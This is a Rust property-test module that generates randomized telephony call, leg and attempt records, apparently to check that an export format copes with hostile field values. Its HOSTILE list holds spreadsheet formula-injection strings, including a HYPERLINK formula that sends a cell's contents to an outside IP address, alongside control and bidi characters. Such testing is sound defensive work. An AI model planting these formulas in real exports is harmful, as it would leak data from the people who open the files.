//! Rows nobody would make up who means well.

use exports::{Attempt, Call, Instant, Leg};
use proptest::{collection::vec, option, prelude::*, sample::select};

/// What callers write, and what breaks formats.
const HOSTILE: [&str; 16] = [
    "",
    " ",
    "=cmd()",
    "=HYPERLINK(\"http://192.0.2.1/?\"&A1)",
    "+12025550100",
    "-1+1",
    "@SUM(A1)",
    "＝1+1",
    "\t=1",
    "'quoted'",
    "a,b;c|d",
    "\r\n",
    "\"\"",
    "\0\u{1b}[2J\u{7f}\u{85}",
    "\u{202e}\u{feff}=1",
    "null",
];

fn text() -> impl Strategy<Value = Box<str>> {
    prop_oneof![
        select(&HOSTILE[..]).prop_map(Box::from),
        vec(select(&HOSTILE[..]), 0..4).prop_map(|texts| texts.concat().into()),
        any::<String>().prop_map(Box::from),
        select(vec!["🔔", "x", "=", "\""]).prop_map(|char| char.repeat(512).into()),
    ]
}

fn word() -> impl Strategy<Value = Option<&'static str>> {
    option::of(select(vec!["inbound", "no_answer", "caller"]))
}

fn number() -> impl Strategy<Value = i64> {
    prop_oneof![any::<i64>(), select(vec![0, -1, i64::MIN, i64::MAX])]
}

fn instant() -> impl Strategy<Value = Instant> {
    prop_oneof![number(), 1_700_000_000_000_000_i64..1_900_000_000_000_000].prop_map(Instant)
}

/// So many of something, each of which may be missing.
fn some<T: std::fmt::Debug>(
    of: impl Strategy<Value = T>,
    count: usize,
) -> impl Strategy<Value = Vec<Option<T>>> {
    vec(option::of(of), count)
}

prop_compose! {
    pub(crate) fn call()(
        (node, unique_id, flaws) in (text(), text(), text()),
        mut texts in some(text(), 7),
        (created_at, revision, complete) in (instant(), number(), any::<bool>()),
        mut numbers in some(number(), 8),
        mut instants in some(instant(), 4),
        (direction, disposition, hangup_by, outcome) in (word(), word(), word(), word()),
    ) -> Call {
        let mut text = || texts.pop().unwrap();
        let mut number = || numbers.pop().unwrap();
        let mut instant = || instants.pop().unwrap();
        Call {
            node, created_at, unique_id, revision, complete, flaws,
            root: text(), decision: text(), generation: number(), direction,
            caller_raw: text(), caller_e164: text(), called_raw: text(), called_e164: text(),
            provider_in: number(), provider_out: number(),
            start_at: instant(), first_ring_at: instant(), answer_at: instant(), end_at: instant(),
            wait_us: number(), ring_us: number(), talk_us: number(),
            disposition, cause: number(), sip: number(), hangup_by, country: text(), outcome,
        }
    }
}

prop_compose! {
    pub(crate) fn leg()(
        (node, call_unique_id, unique_id, channel) in (text(), text(), text(), text()),
        (call_created_at, position) in (instant(), number()),
        linked_id in option::of(text()),
        mut instants in some(instant(), 3),
        (cause, sip, hangup_by) in (option::of(number()), option::of(number()), word()),
    ) -> Leg {
        let mut instant = || instants.pop().unwrap();
        Leg {
            node, call_created_at, call_unique_id, position, unique_id, linked_id, channel,
            start_at: instant(), answer_at: instant(), end_at: instant(), cause, sip, hangup_by,
        }
    }
}

prop_compose! {
    pub(crate) fn attempt()(
        (node, call_unique_id, leg) in (text(), text(), text()),
        mut texts in some(text(), 7),
        (call_created_at, position, start_at) in (instant(), number(), instant()),
        mut instants in some(instant(), 3),
        mut numbers in some(number(), 4),
        outcome in word(),
    ) -> Attempt {
        let mut text = || texts.pop().unwrap();
        let mut number = || numbers.pop().unwrap();
        let mut instant = || instants.pop().unwrap();
        Attempt {
            node, call_created_at, call_unique_id, position,
            dial: text(), leg, caller_leg: text(), decision: text(), decision_attempt: number(), start_at,
            ring_at: instant(), answer_at: instant(), end_at: instant(), cause: number(), sip: number(),
            dialstatus: text(), provider: number(), kind: text(), prefix: text(), country: text(), outcome,
        }
    }
}
